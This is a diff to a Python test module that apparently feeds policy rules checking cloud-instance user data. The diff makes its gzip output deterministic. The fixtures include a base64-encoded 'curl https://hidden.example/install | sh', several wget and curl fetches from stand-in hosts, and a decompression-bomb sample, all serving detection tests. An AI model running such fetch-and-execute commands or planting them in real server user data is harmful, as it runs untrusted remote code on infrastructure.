@@ -1,12 +1,15 @@
 """User data: what machines are told to fetch, to ask and to join with."""
 
 import base64
+import functools
 import gzip
 
 from rules.unknowns import UNKNOWN
 from tests.policies.mutations.mutation import Change, add, edit, opens
 from tests.policies.mutations.parts import INSTANCE, TEMPLATE
 from tests.policies.mutations.stacks import REGION
+
+zipped = functools.partial(gzip.compress, mtime=0)  # the same bytes in every run
 
 DIGEST = "@sha256:" + "0123456789abcdef" * 4
 API = f"https://0123456789ABCDEF.gr7.{REGION}.eks.amazonaws.com"
@@ -55,7 +58,7 @@ def bottlerocket(*lines: str, metrics: str = "send-metrics = false") -> str:
 NODE_CLASS = "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass"
 HIDDEN = base64.b64encode(b"curl https://hidden.example/install | sh\n").decode()
 _HEAD = '#cloud-config\nntp: {"servers": ["0.pool.ntp.org"]}\n'
-_FILE = base64.b64encode(gzip.compress(script("wget x.example/a").encode())).decode()
+_FILE = base64.b64encode(zipped(script("wget x.example/a").encode())).decode()
 MUTATIONS = (
     opens(
         "a script that fetches from the internet",
@@ -72,7 +75,7 @@ MUTATIONS = (
         "CN-201",
         template(script("curl -o /tmp/a http://8.8.8.8/a")),
     ),
-    opens("a script that is compressed", "CN-201", template(gzip.compress(
+    opens("a script that is compressed", "CN-201", template(zipped(
         script("curl https://x.example").encode()
     ))),
     opens(
@@ -175,13 +178,13 @@ MUTATIONS = (
     opens(
         "user data that is cut off",
         "CN-206",
-        template(gzip.compress(b"x" * 4096)[:20]),
+        template(zipped(b"x" * 4096)[:20]),
         verdict="undecided",
     ),
     opens(
         "user data that unfolds without end",
         "CN-206",
-        template(gzip.compress(b"\0" * 4_000_000)),
+        template(zipped(b"\0" * 4_000_000)),
         verdict="undecided",
     ),
     opens(
